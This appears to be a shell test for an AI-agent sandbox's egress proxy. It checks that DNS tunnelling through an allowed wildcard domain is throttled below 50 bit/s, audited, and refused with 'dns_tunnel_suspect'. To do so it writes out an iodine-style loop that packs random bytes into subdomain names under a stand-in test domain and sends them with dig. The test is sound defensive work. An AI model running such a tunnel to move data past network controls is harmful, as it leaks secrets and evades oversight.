# Below an allowed wildcard the agent chooses the names, and whoever serves the
# zone hears them: what a tunnel gets out is held below 50 bit/s, and recorded.
# An exact route is not limited.
. "${0%/*}/tunnel_lib.sh"

need dig jq
world_serves listed.test a.wild.test b.wild.test
manifest 'routes: [{host: listed.test}, {host: "*.wild.test"}]'
DIG='dig +time=2 +tries=1 +noall +comments +answer'
SECONDS_RUN=20

agent $DIG a.wild.test | expect '93.184.216'
agent $DIG b.wild.test | expect '93.184.216'

# As iodine does it: as many bits as a name can hold, as fast as they are taken.
cat >"$DIR/tunnel" <<-'END'
	end=$(($(date +%s) + SECONDS_RUN))
	while [ $(date +%s) -lt $end ]; do
		set --
		for i in 1 2 3 4 5 6 7 8; do
			data=$(od -An -N60 -tx1 /dev/urandom | tr -d ' \n')
			set -- "$@" "$(echo "$data" | cut -c1-60).$(echo "$data" |
				cut -c61-120).wild.test"
		done
		printf 'sent %s\n' "$@"
		dig +time=1 +tries=1 +short "$@" >/dev/null
		# And as little as a name can hold, to try the other limit.
		set --
		for i in 1 2 3 4 5 6 7 8; do
			set -- "$@" "$(od -An -N2 -tx1 /dev/urandom |
				tr -d ' \n').wild.test"
		done
		printf 'sent %s\n' "$@"
		dig +time=1 +tries=1 +short "$@" >/dev/null
	done
END
agent env SECONDS_RUN=$SECONDS_RUN sh -c "$(cat "$DIR/tunnel")" >"$DIR/out" ||
	fail 'the tunnel did not run'
sent=$(grep -c sent "$DIR/out")
[ "$sent" -gt 100 ] || fail "the tunnel sent $sent names only"

echo "$sent names sent in $SECONDS_RUN s"
[ "$(heard wild.test | wc -l)" -gt 2 ] || fail 'this measures nothing'
held_below wild.test 50

# Neither is the address that refusals lead to a way around, by name or Host:
# who connects there is told the same.
before=$(heard wild.test | wc -l)
for i in 1 2 3; do
	for url in "https://x$i.wild.test/" "http://x$i.wild.test/"; do
		agent $CURL -w '%{http_code}\n' --connect-to ::198.18.0.1: \
			"$url" >"$DIR/told"
		expect '"reason":"dns_tunnel_suspect"' <"$DIR/told"
		expect '^403$' <"$DIR/told"
	done
done
[ "$(heard wild.test | wc -l)" -eq "$before" ] || fail 'a connection leaked'
for event in upstream request; do
	audit_has "\"event\":\"$event\"" '"reason":"dns_tunnel_suspect"' \
		'"name":"x1.wild.test"'
done

# In the record: the wildcard, once at first, and how many there were.
audit_has '"reason":"dns_tunnel_suspect"' '"name":"wild.test"' '"asked"'
agent $DIG one-more-of-many-that-were-asked-for.wild.test |
	expect 'EDE: 15 (Blocked).*dns_tunnel_suspect'
[ "$(grep '"event":"dns"' "$DIR/audit.jsonl" |
	grep -c '"dns_tunnel_suspect"')" -le 12 ] ||
	fail 'each name has a line'

# What is in use goes on, and so does what no wildcard admits.
agent $DIG a.wild.test | expect '93.184.216'
agent $DIG listed.test | expect '93.184.216'
